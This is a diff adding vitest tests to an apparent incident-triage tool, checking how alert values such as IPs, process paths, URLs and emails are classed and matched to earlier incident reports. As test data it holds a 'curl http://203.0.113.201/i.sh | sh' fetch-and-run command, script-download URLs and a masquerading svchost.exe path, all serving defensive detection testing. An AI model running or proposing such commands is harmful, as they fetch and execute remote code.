@@ -1,6 +1,9 @@
 import { describe, expect, it } from 'vitest';
+import type { IncidentInput } from '../../../schemas/incident.ts';
+import { getWords } from '../../../src/core/i18n/words.ts';
 import { readInventory } from '../../../src/core/recall/inventory.ts';
 import { isMail, readMail } from '../../../src/core/recall/mail.ts';
+import { tellReleased } from '../../../src/core/recall/tell.ts';
 import { readWarninglist } from '../../../src/core/recall/warninglist.ts';
 import { ask, openSources, precedentsOf } from './sample-sources.ts';
 import { buildReport } from '../../builders.ts';
@@ -65,6 +68,19 @@ describe('the ledger of addresses', () => {
   });
 });
 
+it.each([
+  ['2024-03-01', 'given back on 2024-01-01'],
+  // It was ours when the alert fired.
+  ['2023-03-01', undefined],
+])('an alert of %s is told that its address was %s', async (day, said) => {
+  const answer = await ask(`告警时间 ${day}，203.0.113.45 恶意`, openSources([]), {
+    inventory: [{ addr: '203.0.113.45', from: '2022-10-22', until: '2024-01-01' }],
+    count: ['203.0.113.45'],
+  });
+  const told = tellReleased(answer, { words: getWords('en'), language: 'en' });
+  expect(told === undefined ? undefined : /given back on \S+(?=:)/.exec(told)?.[0]).toBe(said);
+});
+
 describe('a warninglist', () => {
   it.each([
     ['{}', 'It has no `list`.'],
@@ -102,6 +118,59 @@ describe('a warninglist', () => {
     const { values } = await ask(`seen: ${value}`, openSources([], { noise: [noise] }));
     expect(values[0]?.standing).toBe('counts');
   });
+});
+
+describe('a file of every system', () => {
+  it.each([
+    ['/bin/sh', 'noise'],
+    ['C:\\Windows\\System32\\rundll32.exe', 'noise'],
+    ['winword.exe', 'noise'],
+    // One of the names, where no such program lies.
+    ['C:\\Users\\Public\\svchost.exe', 'counts'],
+  ])('%s is %s', async (value, standing) => {
+    const { values } = await ask(`process: ${value}`, openSources([]));
+    expect(values[0]).toMatchObject({ standing });
+  });
+
+  it('counts where a report lists it', async () => {
+    const listing = buildReport({ incident: { indicators: [{ id: 'I1', type: 'file', value: '/bin/sh' }] } });
+    const { values } = await ask('changed: /bin/sh', openSources([listing]));
+    expect(values[0]).toMatchObject({ standing: 'counts' });
+  });
+});
+
+it.each([
+  ['{"generatorURL":"https://prom.kuro-pay.com/graph"}', 'noise'],
+  ['attack=C2 ref="http://www.kuro-pay.com/ids/1"', 'noise'],
+  ['{"link":"http://www.kuro-pay.com/ids/1"}', 'counts'],
+])('the URL of %s is %s', async (paste, standing) => {
+  expect((await ask(paste, openSources([]))).values[0]).toMatchObject({ standing });
+});
+
+it.each([
+  ['mail from ceo.office@gmail.com', 'strong'],
+  ['mail from somebody.else@gmail.com', 'weak'],
+  ['query for gmail.com', 'weak'],
+  ['query for files.kuro-pay.com', 'likely'],
+  ['GET https://files.kuro-pay.com/b.sh', 'likely'],
+  ['GET https://files.kuro-pay.com/a.sh', 'strong'],
+])('the host of what a report lists is not that: %s is %s', async (paste, match) => {
+  const indicators: IncidentInput['indicators'] = [
+    { id: 'I1', type: 'email-addr', value: 'ceo.office@gmail.com' },
+    { id: 'I2', type: 'url', value: 'https://files.kuro-pay.com/a.sh' },
+  ];
+  const report = buildReport({ incident: { indicators } });
+  expect(precedentsOf(await ask(paste, openSources([report])))).toEqual([`${report.id} ${match}`]);
+});
+
+it('a URL that a text quotes leads to the report that lists its host', async () => {
+  const report = buildReport({
+    incident: { indicators: [{ id: 'I1', type: 'ipv4-addr', value: '203.0.113.201' }] },
+    intro: 'It ran `curl http://203.0.113.201/i.sh`.',
+  });
+  const answer = await ask('curl http://203.0.113.201/i.sh | sh', openSources([report]));
+  expect(answer.values[0]?.standing).toBe('counts');
+  expect(precedentsOf(answer)).toEqual([`${report.id} strong`]);
 });
 
 describe('a value that is in many reports', () => {
